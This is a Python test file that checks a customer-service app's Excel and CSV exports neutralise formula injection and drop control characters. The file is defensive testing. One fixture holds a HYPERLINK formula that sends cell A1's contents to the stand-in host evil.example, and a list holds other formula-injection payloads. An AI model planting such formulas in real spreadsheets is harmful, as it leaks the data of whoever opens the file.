"""Issue 11 items 6 and 7: every Excel export goes through kefu.core.excel — text that Excel would run as
a formula is written as text (OWASP CSV injection), and control characters stored before they were
refused are dropped instead of breaking the export."""

import csv
import io
import re
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kefu.accounts.tests.factories import ServiceAreaFactory
from kefu.core.excel import export_csv_writer, export_workbook, styled_cells
from kefu.customers.tests.factories import CustomerFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
RISKY = [HYPERLINK, "-1+2", "+86 138", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "#N/A"]


def written(build) -> list[list]:
    """The cells of the first sheet after `build(sheet)` fills it, as openpyxl reads the file back."""
    workbook = export_workbook()
    sheet = workbook.create_sheet("表")
    build(sheet)
    output = BytesIO()
    workbook.save(output)
    return [list(row) for row in load_workbook(BytesIO(output.getvalue())).active.iter_rows()]


@pytest.mark.parametrize("value", RISKY)
def test_a_value_that_excel_would_run_is_written_as_text(value):
    # when
    [[cell]] = written(lambda sheet: sheet.append([value]))

    # then
    assert cell.data_type == "s"
    assert cell.value == value.replace("\r", "\n")  # XML reads a stored CR back as a line feed
    assert cell.quotePrefix  # Excel keeps it text even when someone edits the cell


def test_a_styled_cell_with_a_formula_is_written_as_text_too():
    # when
    [[cell]] = written(lambda sheet: sheet.append(styled_cells(sheet, [HYPERLINK])))

    # then
    assert (cell.data_type, cell.value) == ("s", HYPERLINK)


def test_control_characters_that_excel_cannot_hold_are_dropped_not_fatal():
    # when
    [[plain, styled]] = written(
        lambda sheet: sheet.append(["王\x0b建\x00国", *styled_cells(sheet, ["停\x1b水"])])
    )

    # then
    assert (plain.value, styled.value) == ("王建国", "停水")


def test_ordinary_values_keep_their_types():
    # when
    [[text, number, negative]] = written(lambda sheet: sheet.append(["王建国", 12, -5]))

    # then
    assert (text.value, text.data_type, text.quotePrefix) == ("王建国", "s", False)
    assert (number.value, negative.value, negative.data_type) == (12, -5, "n")


def test_the_archive_export_writes_a_formula_named_customer_as_text_and_survives_a_control_character(
    client_for, counter_clerk
):
    # given: rows stored before the rules (a formula as address, a vertical tab in a name)
    area = ServiceAreaFactory()
    CustomerFactory(number="KH00000001", name="王\x0b建国", address=HYPERLINK, service_area=area)
    CustomerFactory(number="KH00000002", name="王秀英", address="-1+2", service_area=area)

    # when
    response = client_for(counter_clerk).get("/customers/export.xlsx", {"q": "王"})

    # then
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.getvalue())).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    by_value = {cell.value: cell for cell in cells}
    assert by_value[HYPERLINK].data_type == "s"
    assert by_value["-1+2"].data_type == "s" and by_value["-1+2"].quotePrefix
    assert "王建国" in by_value
    assert not any(cell.data_type == "f" for cell in cells)


def modules_outside_the_helper_matching(pattern: str) -> list[str]:
    """kefu's own modules (tests aside) other than kefu/core/excel.py whose source matches `pattern`."""
    root = Path(__file__).resolve().parents[2]
    helper = root / "core" / "excel.py"
    return [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path != helper
        and "tests" not in path.parts
        and re.search(pattern, path.read_text(encoding="utf-8"))
    ]


def test_no_module_builds_a_workbook_or_a_cell_outside_the_shared_helper():
    assert modules_outside_the_helper_matching(r"\b(Workbook|WriteOnlyCell|Cell)\(") == []


@pytest.mark.parametrize("value", RISKY[:-1])
def test_a_csv_value_a_spreadsheet_would_run_gets_the_quote_that_keeps_it_text(value):
    # given a CSV written through the shared writer
    output = io.StringIO()

    # when
    export_csv_writer(output).writerow(["第3行", value, 42])

    # then the same rule as the Excel cells: a leading ' ; other values untouched
    assert next(csv.reader(io.StringIO(output.getvalue()))) == ["第3行", "'" + value, "42"]


def test_no_module_writes_a_csv_outside_the_shared_writer():
    assert modules_outside_the_helper_matching(r"\bcsv\.(writer|DictWriter)\(") == []


def test_the_streaming_sheet_writes_every_text_as_text_and_dates_as_dates():
    # given the XlsxWriter sheet of the long exports (kefu.core.excel.streaming_sheet)
    from datetime import date

    from kefu.core.excel import streaming_sheet

    output = BytesIO()
    sheet = streaming_sheet(output, "计划", ["值", "日期", "数"], [10, 10, 10])

    # when risky texts, a control character, a date and a number are written
    for value in RISKY:
        sheet.append([value, date(2026, 2, 28), 20])
    sheet.append(["表号\x07SB1", None, 1.5])
    assert sheet.close() == len(RISKY) + 1

    # then nothing is a formula, the bell character is gone, the date is a date
    book = load_workbook(output).active
    cells = [cell for row in book.iter_rows(min_row=2) for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    values = [row[0] for row in book.iter_rows(min_row=2, values_only=True)]
    assert values[: len(RISKY) - 2] == RISKY[: len(RISKY) - 2] and values[-1] == "表号SB1"
    assert book["B2"].is_date and book["C2"].value == 20 and book["B9"].value is None
